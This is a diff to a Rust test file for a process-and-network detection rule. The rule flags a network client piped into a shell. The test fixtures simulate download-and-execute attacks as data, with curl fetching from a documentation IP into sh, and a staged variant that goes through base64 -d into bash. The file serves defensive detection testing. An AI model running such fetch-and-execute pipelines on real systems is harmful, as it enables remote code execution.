@@ -256,7 +256,12 @@ fn piped(command: &str, pid: i64, ppid: i64, (stdin, stdout): (u64, u64), at_ms:
 }
 
 fn connect(pid: i64, at_ms: i64) -> NodeEvent {
-    let mut event = exec_at("x", Some("c1"), at_ms);
+    connect_as(pid, at_ms, "x")
+}
+
+/// A connection by `pid`, whose command line (from the collector's process table) is `command`.
+fn connect_as(pid: i64, at_ms: i64, command: &str) -> NodeEvent {
+    let mut event = exec_at(command, Some("c1"), at_ms);
     event.kind = NodeEventKind::NetConnect;
     (event.pid, event.tgid) = (pid, pid);
     event.net = Some(palisade_schemas::NetDetail {
@@ -281,7 +286,7 @@ fn a_network_client_piped_into_a_shell_fires_whatever_the_order_and_names() {
     let textbook = [
         piped("sh", 11, 10, (7, 0), T),
         piped("curl -s http://203.0.113.9/i", 12, 10, (0, 7), T + 1),
-        connect(12, T + 2),
+        connect_as(12, T + 2, "curl -s http://203.0.113.9/i"),
         piped("id", 13, 11, (7, 0), T + 3),
     ];
     let found = fired(&mut pipes(), &textbook);
@@ -309,7 +314,7 @@ fn a_network_client_piped_into_a_shell_fires_whatever_the_order_and_names() {
         piped("curl -s http://203.0.113.9/b", 32, 30, (0, 9), T),
         piped("base64 -d", 33, 30, (9, 10), T + 1),
         piped("bash", 34, 30, (10, 0), T + 2),
-        connect(32, T + 3),
+        connect_as(32, T + 3, "curl -s http://203.0.113.9/b"),
     ];
     let found = fired(&mut pipes(), &staged);
     assert_eq!(found.len(), 1, "{found:?}");
